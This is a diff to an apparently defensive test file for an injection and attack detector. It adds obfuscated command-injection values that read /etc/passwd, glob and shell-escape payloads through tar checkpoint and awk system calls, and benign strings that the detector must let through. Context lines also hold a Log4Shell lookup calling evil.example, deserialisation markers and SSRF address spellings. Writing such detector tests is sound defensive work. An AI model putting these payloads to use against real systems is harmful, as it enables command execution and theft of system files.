@@ -24,7 +24,8 @@ const ATTACKS: Record<string, string[]> = {
   'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABQ', 'KztAAU', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
   'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
   'SSRF spellings': ['http:127.0.0.1', 'http:/2852039166', 'http:0xA9FEA9FE', 'http:[::ffff:a9fe:a9fe]', 'http://google.com:80 &@127.0.0.1:22/# @google.com:80/', 'https://metadata.packet.net/userdata'],
-  'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class'],
+  'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class', 'www.example.com;c$@at+/et$@c/pas$@swd', "x;cat /e't'c/pa's'swd"],
+  'globs and shell escapes': ['cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
 };
 
 /** Requests whose payload is not a plain field value. */
@@ -50,7 +51,7 @@ const BENIGN: string[] = [
   'Hi,\nUSER guide is outdated', 'the system(s) we use', 'Section 5(a)(1) applies', 'see (a)(b) below', 'console log shows nothing',
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
-  '../guide/setup.md', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'The {php} tag is deprecated',
+  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'The {php} tag is deprecated',
 ];
 
 for (const [name, payloads] of Object.entries(ATTACKS)) {
